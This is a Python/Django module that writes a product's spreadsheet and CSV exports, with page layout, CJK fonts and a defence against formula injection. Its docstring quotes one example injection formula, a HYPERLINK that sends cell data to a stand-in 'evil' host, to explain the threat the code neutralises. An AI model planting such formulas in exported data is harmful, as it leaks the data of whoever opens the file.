"""Every spreadsheet and CSV the product writes (D-2): one writer, no cell is ever read as a formula, and every
sheet is ready to read and to print.

A value that starts with = + - @, a tab or a carriage return is what a spreadsheet takes for a formula or a
command (CSV injection: `=HYPERLINK("http://evil/?"&A1)` in a complaint's subject would run when a supervisor
opens the export). Here such a value is always written as text: in .xlsx as a string cell, in CSV with a leading
apostrophe (OWASP's advice; spreadsheets show the text and never evaluate it).

Every .xlsx sheet gets the same page (`sheet_setup`): columns wide enough for their text, the header rows frozen and
repeated on each printed page, A4 landscape fitted to the page width, a CJK font (FONT_NAME) for every cell, and in
the printed footer who exported it and when, with the page number.
"""

from __future__ import annotations

import csv
import io
import itertools
import unicodedata
from collections.abc import Iterable, Sequence
from datetime import datetime
from typing import Any

from django.http import HttpResponse
from django.utils import timezone
from django.utils.translation import gettext as _
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter
from openpyxl.utils.indexed_list import IndexedList
from openpyxl.worksheet.worksheet import Worksheet

XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_TYPE = "text/csv; charset=utf-8"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# SimSun, the font Chinese offices print forms in; spreadsheets without it substitute their own CJK font. No theme
# scheme, so that Excel does not swap in the theme's Latin font; charset 134 is GB2312.
FONT_NAME = "宋体"
FONT_SIZE = 11
WIDTH_SAMPLE = 200  # rows looked at to size the columns of a streamed sheet
MIN_WIDTH, MAX_WIDTH = 6, 50


def font(*, bold: bool = False, size: int = FONT_SIZE) -> Font:
    """The export font; use it for every styled cell (a bare Font() would fall back to Calibri)."""
    return Font(name=FONT_NAME, size=size, bold=bold, family=3, charset=134)


def new_workbook(*, write_only: bool = False) -> Workbook:
    """A workbook whose cells, styled or not, default to the CJK font."""
    book = Workbook(write_only=write_only)
    # openpyxl has no public setter for the default font: font 0 is what every unstyled cell and the Normal style use.
    book._fonts = IndexedList([font()])
    return book


def text_width(value: Any) -> int:
    """Width in Excel's units (one digit): a CJK character takes two."""
    text = "" if value is None else str(value)
    return sum(2 if unicodedata.east_asian_width(char) in "WF" else 1 for char in text)


def column_widths(rows: Iterable[Sequence[Any]]) -> list[float]:
    """Each column as wide as its widest value, plus a margin, within MIN_WIDTH..MAX_WIDTH."""
    widest: list[int] = []
    for row in rows:
        for index, value in enumerate(row):
            longest = max((text_width(line) for line in str(value).splitlines()), default=0) if value else 0
            if index == len(widest):
                widest.append(0)
            widest[index] = max(widest[index], longest)
    return [min(max(width + 2, MIN_WIDTH), MAX_WIDTH) for width in widest]


def _footer_text(text: str) -> str:
    return text.replace("&", "&&")  # & starts a code in a header or footer


def sheet_setup(
    sheet,
    *,
    widths: Sequence[float],
    header_rows: int,
    exported_by: str,
    exported_at: datetime | None = None,
    repeat_rows: int | None = None,
) -> None:
    """The page every export gets. On a write-only sheet call it before the first row: widths and panes come first.

    header_rows: the rows above the data (1 for a list; the title and headings of a report), frozen on screen;
    repeat_rows (header_rows unless said): the rows printed again at the top of every page.
    """
    for index, width in enumerate(widths, start=1):
        sheet.column_dimensions[get_column_letter(index)].width = width
    if header_rows:
        sheet.freeze_panes = f"A{header_rows + 1}"
    repeat_rows = header_rows if repeat_rows is None else repeat_rows
    if repeat_rows:
        sheet.print_title_rows = f"1:{repeat_rows}"
    sheet.page_setup.orientation = "landscape"
    sheet.page_setup.paperSize = Worksheet.PAPERSIZE_A4
    sheet.page_setup.fitToWidth = 1
    sheet.page_setup.fitToHeight = 0  # as many pages down as the rows need
    sheet.sheet_properties.pageSetUpPr.fitToPage = True
    moment = timezone.localtime(exported_at or timezone.now())
    stamp = _("Exported by %(user)s, %(time)s") % {"user": exported_by, "time": f"{moment:%Y-%m-%d %H:%M}"}
    for part, text in ((sheet.oddFooter.left, _footer_text(stamp)), (sheet.oddFooter.right, "&P / &N")):
        part.text = text
        part.font = f"{FONT_NAME},Regular"
        part.size = 9


def looks_like_formula(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_cell(value: Any) -> Any:
    """The value as CSV may carry it: text that would be read as a formula gets a leading apostrophe."""
    return "'" + value if looks_like_formula(value) else value


def append(sheet, values: Iterable[Any], *, bold: bool = False) -> None:
    """Append one row to a worksheet (write-only or not), every formula-like string kept as text; `bold` for
    headings."""
    values = list(values)
    if isinstance(sheet, Worksheet):
        sheet.append(values)
        for cell in sheet[sheet.max_row]:
            if cell.data_type == "f":  # openpyxl reads a leading = as a formula
                cell.data_type = "s"
            if bold and cell.value is not None:
                cell.font = font(bold=True)
        return
    row = []
    for value in values:
        if looks_like_formula(value) or bold:
            cell = WriteOnlyCell(sheet, value=value)
            if looks_like_formula(value):
                cell.data_type = "s"
            if bold:
                cell.font = font(bold=True)
            row.append(cell)
        else:
            row.append(value)
    sheet.append(row)


def workbook_bytes(book: Workbook) -> bytes:
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def attachment(content: bytes | str, *, filename: str, content_type: str) -> HttpResponse:
    response = HttpResponse(content, content_type=content_type)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


def xlsx_table(
    *, title: str, header: Sequence[Any], rows: Iterable[Sequence[Any]], exported_by: str, exported_at=None
) -> bytes:
    """One sheet: a header row and the rows, written as they stream (constant memory for 10,000 rows); the columns
    are sized on the header and the first WIDTH_SAMPLE rows."""
    book = new_workbook(write_only=True)
    sheet = book.create_sheet(title[:31])
    header = [str(label) for label in header]
    rows = iter(rows)
    first = list(itertools.islice(rows, WIDTH_SAMPLE))
    sheet_setup(
        sheet, widths=column_widths([header, *first]), header_rows=1, exported_by=exported_by, exported_at=exported_at
    )
    append(sheet, header, bold=True)
    for row in itertools.chain(first, rows):
        append(sheet, row)
    return workbook_bytes(book)


def xlsx_response(
    *, filename: str, title: str, header: Sequence[Any], rows: Iterable[Sequence[Any]], exported_by: str
) -> HttpResponse:
    content = xlsx_table(title=title, header=header, rows=rows, exported_by=exported_by)
    return attachment(content, filename=filename, content_type=XLSX_TYPE)


def csv_response(*, filename: str, header: Sequence[Any], rows: Iterable[Sequence[Any]]) -> HttpResponse:
    """UTF-8 with a BOM, so that Excel opens the Chinese text correctly."""
    buffer = io.StringIO()
    buffer.write("\ufeff")
    writer = csv.writer(buffer)
    writer.writerow([csv_cell(str(label)) for label in header])
    writer.writerows([csv_cell(value) for value in row] for row in rows)
    return attachment(buffer.getvalue(), filename=filename, content_type=CSV_TYPE)
